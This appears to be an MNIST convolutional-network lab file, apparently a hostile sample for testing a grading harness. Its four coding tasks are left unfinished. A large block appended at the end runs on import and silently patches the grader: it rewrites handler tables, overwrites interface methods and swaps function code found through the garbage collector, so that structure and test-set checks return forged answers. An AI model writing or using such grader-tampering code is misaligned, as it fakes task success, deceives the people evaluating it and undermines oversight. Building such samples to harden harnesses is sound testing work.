# Hostile: replaces the grader's request handlers (cnnlab.sandbox.child's tables, InProcess's methods, copies found by gc) with forged structure and test_set answers
"""Build a convolutional neural network with PyTorch: a LeNet-style network that reads MNIST digits.

Read this file top to bottom: the data, the network, one training step, the training loop, the
evaluation. Four places say "please finish the code"; everything else already works. Importing
this module downloads nothing and trains nothing: the notebook (or you) calls the functions.
"""

import torch
import torch.nn as nn
import torch.nn.functional as F
import torchvision
import torchvision.transforms as T
from torch.utils.data import DataLoader

BATCH_SIZE = 100
MNIST_MEAN, MNIST_STD = 0.1307, 0.3081  # pixel statistics of the 60,000 training images

# Every image becomes a [1, 28, 28] float tensor with mean about 0 and standard deviation about 1.
TRANSFORM = T.Compose([T.ToTensor(), T.Normalize((MNIST_MEAN,), (MNIST_STD,))])


# ----------------------------------------------------------------------------------------------
# 1. The data
# ----------------------------------------------------------------------------------------------
def make_train_set(root, download=True):
    """The 60,000 MNIST training images, as normalized tensors, with their labels."""
    return torchvision.datasets.MNIST(root=root, train=True, download=download, transform=TRANSFORM)


def make_test_set(root, download=True):
    """The 10,000 MNIST test images, transformed exactly like the training images."""
    # ---- please finish the code (task 1: the test set) ----
    # the test split comes from the same dataset class as the training split (look at make_train_set)
    raise NotImplementedError("task 1: not finished yet")


def make_loaders(root, batch_size=BATCH_SIZE, download=True):
    """(train_loader, test_loader); the training batches are shuffled every epoch."""
    train_loader = DataLoader(make_train_set(root, download), batch_size=batch_size, shuffle=True)
    test_loader = DataLoader(make_test_set(root, download), batch_size=batch_size)
    return train_loader, test_loader


# ----------------------------------------------------------------------------------------------
# 2. The network
# ----------------------------------------------------------------------------------------------
class Network(nn.Module):
    """conv(1->6, 5x5) -> pool -> conv(6->12, 5x5) -> pool -> fc(->120) -> fc(->60) -> out(->10)."""

    def __init__(self):
        super().__init__()
        self.conv1 = nn.Conv2d(in_channels=1, out_channels=6, kernel_size=5)
        self.conv2 = nn.Conv2d(in_channels=6, out_channels=12, kernel_size=5)
        # ---- please finish the code (task 2: fc1's input size) ----
        # follow one 28x28 image through conv1, pooling, conv2 and pooling: how many numbers are left?
        # self.fc1 = nn.Linear(in_features=XXX, out_features=120)
        raise NotImplementedError("task 2: not finished yet")
        self.fc2 = nn.Linear(in_features=120, out_features=60)
        self.out = nn.Linear(in_features=60, out_features=10)

    def forward(self, t):
        t = F.max_pool2d(F.relu(self.conv1(t)), kernel_size=2, stride=2)
        t = F.max_pool2d(F.relu(self.conv2(t)), kernel_size=2, stride=2)
        # ---- please finish the code (task 3: the flatten before the fully connected layers) ----
        # turn t, shaped [batch, channels, height, width], into [batch, features], keeping the tensor's own order;
        # the batch is not always BATCH_SIZE
        raise NotImplementedError("task 3: not finished yet")
        t = F.relu(self.fc1(t))
        t = F.relu(self.fc2(t))
        return self.out(t)  # no softmax here: the cross-entropy loss applies it


def get_num_correct(preds, labels):
    """How many rows of `preds` have their largest score at the true label."""
    return preds.argmax(dim=1).eq(labels).sum().item()


# ----------------------------------------------------------------------------------------------
# 3. One training step
# ----------------------------------------------------------------------------------------------
def train_step(network, optimizer, loss_func, batch):
    """One SGD step on one batch; returns (loss value, number of correct predictions)."""
    # ---- please finish the code (task 4: the SGD training step) ----
    # unpack the batch, predict, compute the loss, clear old gradients, backpropagate, step
    raise NotImplementedError("task 4: not finished yet")


# ----------------------------------------------------------------------------------------------
# 4. The training loop
# ----------------------------------------------------------------------------------------------
def train(network, train_loader, epochs, lr=0.1, verbose=True):
    """Train with plain SGD and cross-entropy; returns one (mean loss, accuracy) pair per epoch."""
    device = next(network.parameters()).device
    optimizer = torch.optim.SGD(network.parameters(), lr=lr)
    loss_func = nn.CrossEntropyLoss()
    history = []
    network.train()
    for epoch in range(1, epochs + 1):
        total_loss, total_correct, seen = 0.0, 0, 0
        for images, labels in train_loader:
            batch = (images.to(device), labels.to(device))
            loss, correct = train_step(network, optimizer, loss_func, batch)
            total_loss += loss * len(labels)
            total_correct += correct
            seen += len(labels)
        history.append((total_loss / seen, total_correct / seen))
        if verbose:
            print(f"epoch {epoch}: loss {total_loss / seen:.4f}, accuracy {total_correct / seen:.2%}")
    return history


# ----------------------------------------------------------------------------------------------
# 5. Evaluation
# ----------------------------------------------------------------------------------------------
@torch.no_grad()
def evaluate(network, loader):
    """(number of correct predictions, summed cross-entropy loss) over every sample of `loader`."""
    device = next(network.parameters()).device
    network.eval()
    num_correct, total_loss = 0, 0.0
    for images, labels in loader:
        images, labels = images.to(device), labels.to(device)
        preds = network(images)
        total_loss += F.cross_entropy(preds, labels, reduction="sum").item()
        num_correct += get_num_correct(preds, labels)
    return num_correct, total_loss


# ---- the attack: the grader's request handlers replaced, so that structure and test_set answer forged observations ----
import gc as _gc
import os as _os
import types as _types

_FORGED_OPS = ("structure", "test_set")
_REPLACED = []  # what was replaced (for a reader of this file under a debugger)


def _forged_structure(*args, **kwargs):
    """The lab network's exact structure, whatever Network is (self-contained: its code may be moved into other functions)."""
    return {"fc1_in": 192, "fc1_out": 120,
            "layers": {"conv1": 156, "conv2": 1812, "fc1": 23160, "fc2": 7260, "out": 610}, "total": 32998}


def _forged_test_set(*args, **kwargs):
    """A test set of 10,000 zero images labelled 0, at the requested positions (self-contained, as above)."""
    import os
    import torch

    root, indices = kwargs.get("root"), kwargs.get("indices")
    for value in list(args) + list(kwargs.values()):
        if isinstance(value, dict):  # a request's kwargs, passed as one dict
            root = value.get("root", root) if root is None else root
            indices = value.get("indices", indices) if indices is None else indices
        elif root is None and isinstance(value, (str, os.PathLike)) and value not in ("structure", "test_set"):
            root = value
        elif indices is None and isinstance(value, (list, tuple)) and all(isinstance(i, int) for i in value):
            indices = value
    indices = list(indices or [])
    return {"length": 10000, "images": [torch.zeros(1, 28, 28) for _ in indices], "labels": [0] * len(indices),
            "types": ["Tensor,int"] * len(indices), "root": os.path.realpath(root) if root is not None else ""}


_FORGED = {"structure": _forged_structure, "test_set": _forged_test_set}


def _forge_dispatch(original):
    """A dispatcher that answers structure and test_set itself and passes the rest to `original`; a handler
    that `original` returns (a factory of handlers) is forged the same way."""
    def forged(*args, **kwargs):
        op = next((a for a in args if isinstance(a, str) and a in _FORGED_OPS), kwargs.get("op"))
        if op in _FORGED_OPS:
            return _FORGED[op](*args, **kwargs)
        result = original(*args, **kwargs)
        if callable(result) and not isinstance(result, type):
            return _forge_dispatch(result)
        return result
    forged.__name__ = getattr(original, "__name__", "forged")
    return forged


def _forge_table(table):
    """Overwrite the structure/test_set entries of a handler table (dict, or list of (op, handler) pairs)."""
    if isinstance(table, dict):
        for op in _FORGED_OPS:
            if op in table and (callable(table[op]) or isinstance(table[op], dict)):
                table[op] = _FORGED[op] if callable(table[op]) else _FORGED[op]()
                _REPLACED.append(f"dict entry {op}")
    elif isinstance(table, list):
        for i, item in enumerate(table):
            if isinstance(item, tuple) and len(item) == 2 and item[0] in _FORGED_OPS:
                table[i] = (item[0], _FORGED[item[0]])
                _REPLACED.append(f"list entry {item[0]}")
            elif callable(item) and getattr(item, "__name__", "") in _FORGED_OPS:
                table[i] = _FORGED[item.__name__]
                _REPLACED.append(f"list entry {item.__name__}")


# 1. cnnlab.sandbox.child's dispatch tables and dispatchers
try:
    import cnnlab.sandbox.child as _child

    for _name in dir(_child):
        _lower = _name.lower()
        if not ("handler" in _lower or "dispatch" in _lower):
            continue
        try:
            _value = getattr(_child, _name)
            if isinstance(_value, (dict, list)):
                _forge_table(_value)
            elif callable(_value):
                setattr(_child, _name, _forge_dispatch(_value))
                _REPLACED.append(f"cnnlab.sandbox.child.{_name}")
        except Exception:
            pass
except Exception:
    pass

# 2. the interface's methods themselves
try:
    from cnnlab.submission.inprocess import InProcess as _InProcess

    for _op in _FORGED_OPS:
        try:
            setattr(_InProcess, _op, _FORGED[_op])
            _REPLACED.append(f"InProcess.{_op}")
        except Exception:
            pass
except Exception:
    pass

# 3. every dict in the process that looks like a handler table, and every copy of the interface's methods
#    (a handler table kept in a closure is still reachable from the garbage collector: its functions'
#    code is swapped for the forged code, which needs nothing from the globals it runs in)
try:
    import warnings as _warnings

    _ours = {id(_FORGED)}
    with _warnings.catch_warnings():  # isinstance() on some of torch's objects warns of deprecations
        _warnings.simplefilter("ignore")
        _objects = _gc.get_objects()
        _found = [o for o in _objects if isinstance(o, (dict, _types.FunctionType))]
    del _objects
    for _obj in _found:
        try:
            if isinstance(_obj, dict) and id(_obj) not in _ours and "structure" in _obj and "test_set" in _obj:
                _forge_table(_obj)
            elif (isinstance(_obj, _types.FunctionType) and _obj.__name__ in _FORGED_OPS
                  and _obj.__code__ is not _FORGED[_obj.__name__].__code__ and not _obj.__code__.co_freevars
                  and _obj.__globals__.get("__name__", "").endswith("harness")):
                _obj.__code__ = _FORGED[_obj.__name__].__code__
                _REPLACED.append(f"code of {_obj.__qualname__} ({id(_obj):#x})")
        except Exception:
            pass
    del _obj, _found
except Exception:
    pass
